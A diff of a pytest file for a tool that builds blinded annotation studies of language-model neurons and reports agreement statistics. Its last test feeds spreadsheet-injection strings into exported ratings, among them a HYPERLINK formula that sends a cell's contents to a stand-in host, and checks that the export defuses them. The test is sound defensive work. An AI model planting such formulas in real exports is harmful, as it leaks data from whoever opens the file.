@@ -11,7 +11,7 @@ from sklearn.metrics import cohen_kappa_score
 
 from solulab.errors import SolulabError
 from solulab.neurons.store import NeuronStore
-from solulab.study.create import SNIPPETS, create_study
+from solulab.study.create import CHECKS_PER_NEURON, SNIPPETS, create_study
 from solulab.study.db import Transaction, connect
 from solulab.study.report import summarise, write_report
 
@@ -55,7 +55,7 @@ def test_what_an_annotator_sees_does_not_depend_on_the_model(study, collected_ru
     for payload in payloads.values():
         assert len(payload["snippets"]) == SNIPPETS
         for snip in payload["snippets"]:
-            assert set(snip) == {"tokens", "acts", "fire"}
+            assert set(snip) == {"tokens", "acts", "fire", "start"}
             assert all(0.0 <= a <= 1.0 and round(a, 2) == a for a in snip["acts"])
         shapes.add(tuple(sorted(payload)))
     assert len(shapes) == 1
@@ -64,26 +64,87 @@ def test_what_an_annotator_sees_does_not_depend_on_the_model(study, collected_ru
     for secret in ("small-gelu", "solu", "gelu", str(collected_runs), "layer", "neuron"):
         assert secret not in text
     ids = [i for (i,) in conn.execute("SELECT id FROM items")]
-    assert all(len(i) == 16 for i in ids)  # opaque ids of one length
+    assert all(len(i) == 24 for i in ids)  # opaque ids of one length
 
 
-def test_checks_mix_both_points_from_every_interval(study, collected_runs):
+def test_every_neuron_gets_as_many_checks_and_each_token_is_asked_once(study, collected_runs):
     conn = sqlite3.connect(study.path)
+    per_item = dict(conn.execute("SELECT item_id, COUNT(*) FROM checks GROUP BY item_id"))
+    assert len(per_item) == 2 * PER_MODEL and set(per_item.values()) == {CHECKS_PER_NEURON}
     store = NeuronStore.open(collected_runs / "solu_ln" / "neurons")
-    rows = conn.execute("SELECT c.item_id, c.point, c.interval_index, c.interval_count, x.layer, "
-                        "x.neuron FROM check_secrets c JOIN secrets x ON x.item_id = c.item_id"
-                        ).fetchall()
+    rows = conn.execute("SELECT c.id, x.point, x.interval_index, s.layer, s.neuron FROM checks c "
+                        "JOIN check_secrets x ON x.check_id = c.id JOIN secrets s ON "
+                        "s.item_id = c.item_id WHERE s.model = 'solu'").fetchall()
     assert {r[1] for r in rows} == {"mid", "post"}
     by_neuron = {}
-    for _, point, index, count, layer, neuron in rows:
+    for _, point, index, layer, neuron in rows:
         by_neuron.setdefault((layer, neuron, point), set()).add(index)
     for (layer, neuron, point), indices in by_neuron.items():
         nonempty = [i for i, (_, ex) in enumerate(store.interval_examples(layer, neuron, point))
                     if ex]
-        assert sorted(indices) == nonempty
-    gelu = conn.execute("SELECT COUNT(*) FROM check_secrets c JOIN secrets s ON "
-                        "s.item_id = c.item_id WHERE s.model = 'small-gelu'").fetchone()[0]
-    assert gelu == 0  # no extra LayerNorm, nothing to compare
+        assert sorted(indices) == nonempty  # every interval of both points is asked about
+    # A token drawn at both points is one check with two sources, never two checks.
+    windows = {}
+    for item_id, payload in conn.execute("SELECT item_id, payload FROM checks"):
+        snip = json.loads(payload)
+        key = (item_id, tuple(snip["tokens"]), snip["fire"])
+        windows[key] = windows.get(key, 0) + 1
+    assert max(windows.values()) == 1
+    merged = conn.execute("SELECT COUNT(*) FROM (SELECT check_id FROM check_secrets GROUP BY "
+                          "check_id HAVING COUNT(*) = 2)").fetchone()[0]
+    assert merged > 0
+
+
+def test_snippets_show_the_stores_whole_window(study, collected_runs):
+    store = NeuronStore.open(collected_runs / "solu_ln" / "neurons")
+    before, after = store.meta["window_before"], store.meta["window_after"]
+    conn = sqlite3.connect(study.path)
+    snippets = [s for (p,) in conn.execute("SELECT payload FROM items")
+                for s in json.loads(p)["snippets"] if s["tokens"]]
+    assert max(s["fire"] for s in snippets) == before
+    assert all(len(s["tokens"]) - s["fire"] - 1 <= after for s in snippets)
+    assert all(s["start"] == (s["fire"] < before) for s in snippets)
+
+
+def test_orders_and_ids_cannot_be_recomputed_from_the_seed(collected_runs, tmp_path):
+    models = {"g": collected_runs / "gelu", "s": collected_runs / "solu_ln"}
+    made = [create_study(models, tmp_path / f"{i}.sqlite", 10, seed=0, annotators=["a", "b"])
+            for i in range(2)]
+    conns = [sqlite3.connect(m.path) for m in made]
+    neurons = [conn.execute("SELECT model, layer, neuron FROM secrets ORDER BY 1, 2, 3"
+                            ).fetchall() for conn in conns]
+    assert neurons[0] == neurons[1]  # the seed fixes the sample, for reproducibility
+    orders = [[tuple(r) for r in conn.execute(
+        "SELECT o.annotator, o.position, o.alias, s.model, s.layer, s.neuron FROM orders o "
+        "JOIN secrets s ON s.item_id = o.item_id ORDER BY 1, 2")] for conn in conns]
+    assert [r[3:] for r in orders[0]] != [r[3:] for r in orders[1]]
+    assert not {r[2] for r in orders[0]} & {r[2] for r in orders[1]}
+    a, b = ({r[2] for r in orders[0] if r[0] == name} for name in ("a", "b"))
+    assert not a & b  # each annotator has ids of their own
+    seeds = {conn.execute("SELECT value FROM study WHERE key = 'seed'").fetchone()[0]
+             for conn in [sqlite3.connect(create_study(models, tmp_path / f"r{i}.sqlite", 2).path)
+                          for i in range(2)]}
+    assert len(seeds) == 2  # without --seed, a fresh one each time
+
+
+def test_a_study_that_fails_part_way_leaves_nothing(collected_runs, tmp_path, monkeypatch):
+    import solulab.study.create as create
+
+    calls = []
+
+    def failing(*args):
+        calls.append(1)
+        if len(calls) == 5:
+            raise OSError("disk full")
+        return {"snippets": []}
+
+    monkeypatch.setattr(create, "item_payload", failing)
+    out = tmp_path / "s.sqlite"
+    with pytest.raises(OSError, match="disk full"):
+        create_study({"m": collected_runs / "gelu"}, out, 8)
+    assert list(tmp_path.iterdir()) == []
+    monkeypatch.undo()
+    assert create_study({"m": collected_runs / "gelu"}, out, 8).path == out
 
 
 def test_bad_creation_requests_are_refused(collected_runs, tmp_path, study):
@@ -150,17 +211,40 @@ def test_report_statistics_match_scipy_and_sklearn(study, tmp_path):
 def test_figure_9_counts_inconsistent_labels_per_point_and_interval(study, tmp_path):
     rate_all(study.path, p_interpretable={"small-gelu": 1.0, "solu": 1.0})
     conn = connect(study.path)
-    checks = conn.execute("SELECT c.check_id, c.point, c.interval_index FROM check_secrets c"
-                          ).fetchall()
+    checks = conn.execute("SELECT check_id, group_concat(point) FROM check_secrets "
+                          "GROUP BY check_id").fetchall()
     with Transaction(conn):
-        for check_id, point, index in checks:  # post-LN examples inconsistent, pre-LN not
+        for check_id, points in checks:  # examples drawn only after the LN inconsistent
             conn.execute("INSERT INTO check_labels (annotator, check_id, consistent) VALUES "
-                         "('ann', ?, ?)", (check_id, int(point == "mid")))
+                         "('ann', ?, ?)", (check_id, int("mid" in points.split(","))))
+    n_sources = conn.execute("SELECT COUNT(*) FROM check_secrets").fetchone()[0]
     conn.close()
     summary = summarise(study.path)
     for row in summary["consistency"]:
-        assert row["inconsistent"] == (row["labelled"] if row["point"] == "post" else 0)
-    assert sum(r["labelled"] for r in summary["consistency"]) == len(checks)
+        if row["point"] == "mid":
+            assert row["inconsistent"] == 0
+    solu_post = [r for r in summary["consistency"] if r["act_fn"] == "solu_ln" and
+                 r["point"] == "post"]
+    assert 0 < sum(r["inconsistent"] for r in solu_post) < sum(r["labelled"] for r in solu_post)
+    assert sum(r["labelled"] for r in summary["consistency"]) == n_sources
     out = write_report(study.path, tmp_path / "r")
     assert (out / "fig9.png").is_file()
     assert not math.isnan(summary["models"]["solu"]["fraction"])
+
+
+def test_ratings_csv_holds_no_live_spreadsheet_formulas(study, tmp_path):
+    import csv
+
+    conn = connect(study.path)
+    items = [i for (i,) in conn.execute("SELECT item_id FROM orders WHERE annotator = 'ann'")]
+    hostile = ['=HYPERLINK("http://x.test/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)",
+               "\tcmd", "plain -minus"]
+    with Transaction(conn):
+        for item, text in zip(items, hostile):
+            conn.execute("INSERT INTO ratings (annotator, item_id, label, hypothesis) VALUES "
+                         "('ann', ?, 'interpretable', ?)", (item, text))
+    conn.close()
+    out = write_report(study.path, tmp_path / "report")
+    with open(out / "ratings.csv", newline="") as f:
+        cells = [row["hypothesis"] for row in csv.DictReader(f)]
+    assert sorted(cells) == sorted(["'" + t for t in hostile[:5]] + ["plain -minus"])
